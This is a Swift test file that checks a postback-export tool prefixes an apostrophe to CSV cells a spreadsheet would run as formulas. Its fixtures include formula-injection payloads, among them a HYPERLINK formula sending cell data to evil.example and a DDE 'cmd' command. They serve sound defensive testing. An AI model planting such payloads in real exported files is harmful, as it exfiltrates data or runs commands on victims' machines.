import CSV
import Foundation
import SKANCore
import SKANReports
import SKANStore
import SKANStoreSQLite
import SKANTestSupport
import Testing

@Suite("CSV text cells are safe to open in a spreadsheet", .temporaryFolder)
struct CSVTextTests {
    /// Cells a spreadsheet runs as formulas (OWASP's six first characters), from the hardening report.
    static let formulas = [
        #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
        "=cmd|' /C calc'!A0",
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\tab",
        "\r=1",
    ]

    /// Reads CSV text back with CSV.swift, as a spreadsheet's importer would split it.
    static func read(_ bytes: [UInt8]) throws -> [[String]] {
        let reader = try CSVReader(string: String(decoding: bytes, as: UTF8.self), hasHeaderRow: false)
        var rows: [[String]] = []
        while let row = reader.next() { rows.append(row) }
        return rows
    }

    @Test("a cell beginning with = + - @ tab or CR gets a leading apostrophe, and is quoted where CSV needs it",
          arguments: formulas)
    func neutralised(_ formula: String) throws {
        var buffer: [UInt8] = []
        CSVText.spreadsheetSafe.appendRecord([formula, "plain"], to: &buffer)
        #expect(try Self.read(buffer) == [["'" + formula, "plain"]])
        #expect(CSVText.spreadsheetSafe.cell(formula) == "'" + formula)
        var raw: [UInt8] = []
        CSVText.raw.appendRecord([formula, "plain"], to: &raw)
        #expect(try Self.read(raw) == [[formula, "plain"]])
        #expect(raw == CSVEncoding.text([[formula, "plain"]]), "raw is exactly the plain RFC 4180 encoder")
    }

    @Test("the exact bytes: quoted cells put the apostrophe inside the quotes")
    func bytes() {
        var buffer: [UInt8] = []
        CSVText.spreadsheetSafe.appendRecord(["=a,b", "=x", #"@"q""#, "\r", "", "a=b", "'=kept"], to: &buffer)
        #expect(String(decoding: buffer, as: UTF8.self) == "\"'=a,b\",'=x,\"'@\"\"q\"\"\",\"'\r\",,a=b,'=kept\r\n")
    }

    @Test("numbers SKANKit writes stay numbers: only the text columns are neutralised")
    func numbersStay() throws {
        let path = try TemporaryFolder.current.path("csvtext-\(UUID().uuidString).csv")
        let stream = try BufferedOutput(path: path)
        try TableWriter(format: .csv, stream: stream).write(header: ["ad_network_id", "revenue"],
                                                            rows: [["-1+1", "-5.00"], ["=2", "12"]], textColumns: 0..<1)
        try stream.commit()
        let text = try String(contentsOfFile: path, encoding: .utf8)
        #expect(text == "ad_network_id,revenue\r\n'-1+1,-5.00\r\n'=2,12\r\n")
    }

    /// A store holding a signed postback whose ad-network-id is a formula, and refusals whose bodies and fields are.
    static func hostileStore() async throws -> String {
        let path = try TemporaryFolder.current.path("csvtext-\(UUID().uuidString).sqlite")
        let store = try await SQLitePostbackStore.open(path: path, durability: .normal)
        let receivedAt = Date(timeIntervalSince1970: 1_770_000_000)
        let (verified, body) = TestPostbacks.verified(adNetworkID: formulas[0])
        var entries: [StoreEntry] = [.accepted(AcceptedPostback(attribution: verified, rawBody: body, receivedAt: receivedAt,
                                                                endpoint: "/postbacks"))]
        for formula in formulas {
            entries.append(.rejected(RejectedPostback(status: "malformed", field: formula, reason: formula, version: formula,
                                                      transactionID: formula, adNetworkID: formula, rawBody: Array(formula.utf8),
                                                      receivedAt: receivedAt, endpoint: "/postbacks")))
        }
        _ = try await store.write(entries)
        try await store.close()
        return path
    }

    /// Every cell of `bytes` (a CSV export), header row dropped.
    static func cells(_ bytes: String) throws -> [String] {
        try read(Array(bytes.utf8)).dropFirst().flatMap { $0 }
    }

    @Test("skan export and export --rejected write no cell a spreadsheet would run; --csv-raw writes them as stored")
    func export() async throws {
        let path = try await Self.hostileStore()
        for rejected in [false, true] {
            var outputs: [CSVText: String] = [:]
            for text in CSVText.allCases {
                let out = path + ".\(rejected)-\(text).csv"
                let stream = try BufferedOutput(path: out)
                try await Exporter.export(from: SQLitePostbackReader(path: path), rejected: rejected, format: .csv, csvText: text, to: stream)
                try stream.commit()
                outputs[text] = try String(contentsOfFile: out, encoding: .utf8)
            }
            let safe = try Self.cells(try #require(outputs[.spreadsheetSafe]))
            let raw = try Self.cells(try #require(outputs[.raw]))
            #expect(!safe.isEmpty && safe.count == raw.count)
            #expect(!safe.contains { $0.utf8.first.map(CSVText.startsFormula) ?? false }, "a formula cell in \(safe)")
            // Raw has the formulas; safe has each of them behind an apostrophe, and every other cell as raw has it.
            #expect(raw.contains(Self.formulas[0]))
            for (safeCell, rawCell) in zip(safe, raw) {
                #expect(safeCell == CSVText.spreadsheetSafe.cell(rawCell))
            }
            if rejected { #expect(Set(Self.formulas).isSubset(of: Set(raw))) }
        }
    }

    @Test("skan report's CSV neutralises the grouping keys and leaves the counts as numbers")
    func report() async throws {
        let path = try await Self.hostileStore()
        let request = try ReportRequest(fields: [.adNetwork])
        let report = try await ReportBuilder.run(request, on: SQLitePostbackReader(path: path))
        let out = path + ".report.csv"
        let stream = try BufferedOutput(path: out)
        try TableWriter(format: .csv, stream: stream).write(header: report.header, rows: report.rows.map(report.cells),
                                                            textColumns: report.textColumns)
        try stream.commit()
        let rows = try Self.read(Array(try String(contentsOfFile: out, encoding: .utf8).utf8))
        #expect(rows.count == 2)
        #expect(rows.last?.first == "'" + Self.formulas[0])
        #expect(rows.last?[1] == "1")
        #expect(report.textColumns == 0..<1)
    }
}
